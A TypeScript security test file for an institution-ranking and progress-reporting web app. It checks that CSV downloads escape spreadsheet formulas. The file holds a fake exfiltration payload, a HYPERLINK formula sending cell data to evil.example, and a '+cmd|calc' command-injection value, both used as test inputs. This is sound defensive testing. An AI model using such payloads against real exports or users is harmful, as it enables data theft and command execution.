import { expect } from 'chai';
import request from 'supertest';
import { parse } from 'csv-parse/sync';
import { buildTestApp } from '../helpers/app.js';
import { createInstitution } from '../helpers/fixtures.js';
import { createDraft, publishRanking } from '../../src/features/rankings/ranking-workflow.service.js';
import { ProgressReportModel } from '../../src/features/progress/progress.model.js';
import { arrange, record } from '../integration/rankings/setup.js';
import { buildScenario, itemOf, signIn, submitReport } from '../integration/progress/scenario.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bonyeza")';

/** Every cell of a CSV download (BOM removed). */
function cells(text: string): string[] {
  return (parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
}

describe('security: formula cells in CSV downloads', () => {
  it('when an institution name is a formula, then the public ranking CSV shows it as text', async () => {
    const s = await arrange();
    const evil = await createInstitution({ code: 'MIN-X', type: 'ministry', region: 'Dodoma', name: { sw: FORMULA, en: '+cmd|calc' }, createdAt: new Date(s.cutoff.getTime() - 30 * 86_400_000) });
    await record(evil, s.r1, s.reviewer.user._id, { status: 'completed', percent: 100, at: new Date(s.cutoff.getTime() - 86_400_000) });
    const actor = { id: String(s.admin.user._id), role: 'admin' as const, institutionId: null, name: 'Afisa' };
    const draft = await createDraft(actor, String(s.meeting._id), { cutoff: s.cutoff }, new Date());
    const id = String((await publishRanking(actor, String(draft._id), '', new Date()))._id);
    const res = await request(buildTestApp().app).get(`/rankings/${id}/download.csv`);
    expect(res.status).to.equal(200);
    const all = cells(res.text);
    expect(all).to.include(`'${FORMULA}`).and.include("'+cmd|calc");
    expect(all.filter((c) => /^[=+@]/.test(c))).to.deep.equal([]);
  });

  it('when a report narrative is a formula, then /progress/export.csv shows it as text and imports back unchanged', async () => {
    const s = await buildScenario();
    const agent = await signIn(s.app, s.userA);
    const item = await itemOf(agent, s.instA, s.r1);
    const sent = await submitReport(agent, String(item._id), { revision: item.revision, status: 'in_progress', percent: 30, narrative: FORMULA });
    expect(sent.status).to.equal(302);
    expect((await ProgressReportModel.findOne({ item: item._id }).lean())?.narrative).to.equal(FORMULA);
    const res = await agent.get('/progress/export.csv');
    expect(res.status).to.equal(200);
    const all = cells(res.text);
    expect(all).to.include(`'${FORMULA}`);
    expect(all.filter((c) => /^[=+@]/.test(c))).to.deep.equal([]);
  });
});
